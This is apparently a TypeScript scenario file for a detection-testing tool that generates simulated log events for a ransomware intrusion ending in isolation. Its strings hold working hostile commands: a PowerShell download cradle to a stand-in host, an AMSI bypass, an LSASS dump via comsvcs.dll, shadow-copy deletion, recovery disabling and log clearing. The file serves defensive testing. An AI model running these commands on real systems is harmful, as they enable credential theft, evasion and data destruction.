/**
 * Ransomware: a macro on a workstation, a dumped password, the file server by PsExec, recovery destroyed, notes in every folder. Both
 * machines then fall silent, because they were isolated.
 */

import {
  dnsQuery,
  fileCreate,
  networkConnect,
  newProcess,
  processAccess,
  processCreate,
  registrySet,
  system32,
  systemUser,
} from '../events/sysmon.ts';
import { logon, scriptBlock, serviceInstalled } from '../events/windows.ts';
import { encoded } from '../everyday/programs.ts';
import { devicesWith } from '../fleet.ts';
import { peopleAt } from '../people.ts';
import { hourMs, minuteMs } from '../rhythm.ts';
import { createStoryBuilder, type Stage, type Story } from './story.ts';

const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const cmd = `${system32}cmd.exe`;
const controlAddress = '203.0.113.66';
const shares = ['Accounting', 'Contracts', 'Drawings', 'Payroll', 'Personnel', 'Quality', 'Sales', 'Tooling'] as const;
const isolatedAfterMinutes = 52;

function cast({ site, random }: Stage) {
  const workstation = random.pick(
    devicesWith(site.organisationId, 'workstation').filter((device) => device.silentForDays === undefined),
  );
  const server = devicesWith(site.organisationId, 'fileServer')[0]!;
  return { workstation, server, victim: workstation.owner!, administrator: peopleAt(site.organisationId)[0]! };
}

export const ransomware: Story = {
  name: 'ransomware',
  title: 'Ransomware stopped by isolation',
  ending: 'isolated',
  techniques: [
    'T1204.002',
    'T1059.001',
    'T1562.001',
    'T1069.002',
    'T1003.001',
    'T1569.002',
    'T1489',
    'T1490',
    'T1070.001',
    'T1486',
  ],
  keyRules: [
    'windows/office-starts-interpreter',
    'windows/powershell-download-cradle',
    'windows/lsass-memory-dumped',
    'windows/psexec-service-child',
    'windows/shadow-copies-deleted',
    'windows/ransom-notes-in-many-folders',
  ],
  silences(stage) {
    const { workstation, server } = cast({ ...stage, random: stage.random });
    const from = stage.start + isolatedAfterMinutes * minuteMs;
    return [workstation, server].map((device) => ({ device, from, until: from + 9 * hourMs }));
  },
  build(stage) {
    const { workstation, server, victim, administrator } = cast(stage);
    const { random, site } = stage;
    const { at, events } = createStoryBuilder(stage);
    const word = newProcess(
      random,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${victim.account}\\Downloads\\Remittance_advice.docm"`,
    );
    const cradle = `powershell.exe -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${controlAddress}/u.ps1')"`;
    const loader = newProcess(random, powershell, cradle);
    at(0, workstation, victim, (scene) => processCreate(scene, { ...word, self: word }));
    at(0.6, workstation, victim, (scene) =>
      processCreate(scene, { image: cmd, commandLine: `cmd.exe /c ${cradle}`, parent: word }),
    );
    at(0.7, workstation, victim, (scene) => processCreate(scene, { ...loader, self: loader, parent: word }));
    at(0.8, workstation, victim, (scene) =>
      dnsQuery(scene, { process: loader, name: 'cdn.paymentportal.example', answer: controlAddress }),
    );
    at(0.9, workstation, victim, (scene) =>
      networkConnect(scene, { process: loader, to: controlAddress, port: 80, host: 'cdn.paymentportal.example' }),
    );
    at(1.1, workstation, victim, (scene) =>
      scriptBlock(
        scene,
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
      ),
    );
    at(2, workstation, victim, (scene) =>
      fileCreate(scene, { process: loader, file: `C:\\Users\\${victim.account}\\AppData\\Roaming\\wupd\\wupd.exe` }),
    );
    at(2.2, workstation, victim, (scene) =>
      registrySet(scene, {
        process: loader,
        key: `HKU\\${victim.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\wupd`,
        value: `C:\\Users\\${victim.account}\\AppData\\Roaming\\wupd\\wupd.exe`,
      }),
    );
    const discovery = [
      'whoami /all',
      'net group "Domain Admins" /domain',
      `nltest /dclist:${site.windowsDomain}`,
      'ipconfig /all',
    ];
    discovery.forEach((commandLine, index) => {
      const image = `${system32}${commandLine.split(' ')[0]}.exe`;
      at(6 + index * 0.4, workstation, victim, (scene) => processCreate(scene, { image, commandLine, parent: loader }));
    });
    at(14, workstation, victim, (scene) =>
      processCreate(scene, {
        image: `${system32}rundll32.exe`,
        commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.tmp full`,
        parent: loader,
        integrity: 'High',
      }),
    );
    at(14.1, workstation, victim, (scene) =>
      processAccess(scene, {
        image: `C:\\Users\\${victim.account}\\AppData\\Roaming\\wupd\\wupd.exe`,
        target: `${system32}lsass.exe`,
        access: '0x1fffff',
      }),
    );
    for (let beacon = 0; beacon < 5; beacon++)
      at(18 + beacon * 5 + random.next(), workstation, victim, (scene) =>
        networkConnect(scene, {
          image: `C:\\Users\\${victim.account}\\AppData\\Roaming\\wupd\\wupd.exe`,
          to: controlAddress,
          port: 443,
        }),
      );

    at(40, server, administrator, (scene) =>
      logon(scene, { type: 3, from: workstation.ip, authentication: 'NTLM', workstation: workstation.name }),
    );
    at(40.1, server, administrator, (scene) => serviceInstalled(scene, { name: 'PSEXESVC', path: '%SystemRoot%\\PSEXESVC.exe' }));
    const shell = newProcess(random, cmd, '"cmd.exe" /c C:\\ProgramData\\run.bat');
    at(40.4, server, administrator, (scene) =>
      processCreate(scene, { ...shell, self: shell, parentImage: 'C:\\Windows\\PSEXESVC.exe', user: systemUser }),
    );
    const destruction = [
      'net.exe stop "veeam backup service" /y',
      'vssadmin.exe delete shadows /all /quiet',
      'bcdedit.exe /set {default} recoveryenabled no',
      'wevtutil.exe cl Security',
    ];
    destruction.forEach((commandLine, index) => {
      at(44 + index * 0.5, server, administrator, (scene) =>
        processCreate(scene, { image: `${system32}${commandLine.split(' ')[0]}`, commandLine, parent: shell, user: systemUser }),
      );
    });
    at(46.5, server, administrator, (scene) =>
      processCreate(scene, {
        image: powershell,
        commandLine: `powershell.exe -w hidden -enc ${encoded('Get-ChildItem D:\\Departments -Recurse | ForEach-Object { & C:\\ProgramData\\lock.exe $_.FullName }')}`,
        parent: shell,
        user: systemUser,
      }),
    );
    const locker = newProcess(random, 'C:\\ProgramData\\lock.exe', 'lock.exe -path D:\\Departments -threads 8');
    shares.forEach((share, index) => {
      const folder = `D:\\Departments\\${share}`;
      at(47 + index * 0.2, server, administrator, (scene) => [
        fileCreate(scene, { process: locker, file: `${folder}\\Plan ${random.int(2019, 2026)}.xlsx.locked`, user: systemUser }),
        fileCreate(
          { ...scene, at: scene.at + 900 },
          { process: locker, file: `${folder}\\HOW_TO_RESTORE_FILES.txt`, user: systemUser },
        ),
      ]);
    });
    return events;
  },
};
